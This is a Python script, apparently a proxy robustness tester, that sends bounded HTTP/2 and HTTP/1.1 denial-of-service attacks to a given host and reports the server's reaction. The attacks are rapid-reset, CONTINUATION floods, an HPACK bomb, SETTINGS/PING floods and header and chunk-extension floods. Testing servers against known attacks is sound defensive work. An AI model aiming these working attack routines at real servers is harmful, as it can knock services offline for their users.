"""A client of HTTP that means no good: abuse.py MODE HOST PORT. Prints what became of it, in one line.

What it does is bounded, so that a proxy that lets it have its way is seen by its answer and not by this program's length.
"""

import socket
import struct
import sys

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
HEADERS, RST_STREAM, SETTINGS, PING, GOAWAY, CONTINUATION = 1, 3, 4, 6, 7, 9
END_STREAM, END_HEADERS = 1, 4
# GET http://h/ in HPACK: three entries of the static table, and ":authority: h".
GET = bytes([0x82, 0x86, 0x84, 0x41, 0x01]) + b"h"


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def integer(value, prefix, first):
    """An integer of HPACK."""
    limit = (1 << prefix) - 1
    if value < limit:
        return bytes([first | value])
    out, value = [first | limit], value - limit
    while value >= 128:
        out.append(value % 128 + 128)
        value //= 128
    return bytes(out + [value])


def rapid_reset():
    for stream in range(1, 100_001, 2):
        yield frame(HEADERS, END_STREAM | END_HEADERS, stream, GET) + frame(RST_STREAM, 0, stream, struct.pack(">I", 8))


def continuation():
    yield frame(HEADERS, END_STREAM, 1, GET)
    filler = b"\x00\x01a" + integer(1000, 7, 0) + b"x" * 1000
    for _ in range(20_000):
        yield frame(CONTINUATION, 0, 1, filler)


def small_continuation():
    yield frame(HEADERS, END_STREAM, 1, GET)
    for _ in range(200_000):
        yield frame(CONTINUATION, 0, 1)


def hpack_bomb():
    # An entry of 4,000 bytes, which one byte repeats.
    entry = b"\x40\x01a" + integer(4000, 7, 0) + b"x" * 4000
    block = GET + entry + b"\xbe" * 16_000
    yield frame(HEADERS, END_STREAM, 1, block[:16_000])
    yield frame(CONTINUATION, END_HEADERS, 1, block[16_000:])


def settings():
    for _ in range(200_000):
        yield frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 65_535))


def pings():
    for _ in range(200_000):
        yield frame(PING, 0, 0, b"12345678")


def headers():
    yield b"GET / HTTP/1.1\r\nHost: h\r\n"
    for number in range(20_000):
        yield b"X-%d: %s\r\n" % (number, b"x" * 500)


def chunk_extensions():
    yield b"POST / HTTP/1.1\r\nHost: h\r\nTransfer-Encoding: chunked\r\n\r\n1;"
    for _ in range(20_000):
        yield b"x" * 500


MODES = {
    "rapid-reset": rapid_reset,
    "continuation": continuation,
    "small-continuation": small_continuation,
    "hpack-bomb": hpack_bomb,
    "settings": settings,
    "pings": pings,
    "headers": headers,
    "chunk-extensions": chunk_extensions,
}


def verdict(said, is_http1):
    if is_http1:
        line = said.split(b"\r\n")[0].split()
        return line[1].decode() if len(line) > 1 else "closed"
    while len(said) >= 9:
        length = int.from_bytes(said[:3], "big")
        kind, payload = said[3], said[9 : 9 + length]
        if kind == GOAWAY and len(payload) >= 8:
            return "goaway %d" % int.from_bytes(payload[4:8], "big")
        if kind == RST_STREAM:
            return "reset %d" % int.from_bytes(payload, "big")
        if kind == HEADERS and payload:
            # The first byte of an answer is its status: an entry of the static table, or a literal after a name of it.
            return "answered"
        said = said[9 + length :]
    return "closed"


def main(mode, host, port):
    is_http1 = mode in ("headers", "chunk-extensions")
    connection = socket.create_connection((host, int(port)))
    connection.settimeout(30)
    said = b""
    try:
        if not is_http1:
            connection.sendall(PREFACE + frame(SETTINGS, 0, 0))
        batch = b""
        for part in MODES[mode]():
            batch += part
            if len(batch) >= 1 << 16:
                connection.sendall(batch)
                batch = b""
        connection.sendall(batch)
        if mode in ("settings", "pings"):
            # Only now is anything read: what the proxy owes it must not have been kept without bound.
            print("sent", flush=True)
            sys.stdin.readline()
            return
    except TimeoutError:
        # Nobody reads any more.
        print("blocked", flush=True)
        sys.stdin.readline()
        return
    except OSError:
        pass
    try:
        while chunk := connection.recv(1 << 16):
            said += chunk
            if verdict(said, is_http1) not in ("closed",):
                break
    except OSError:
        pass
    print(verdict(said, is_http1))


main(*sys.argv[1:])
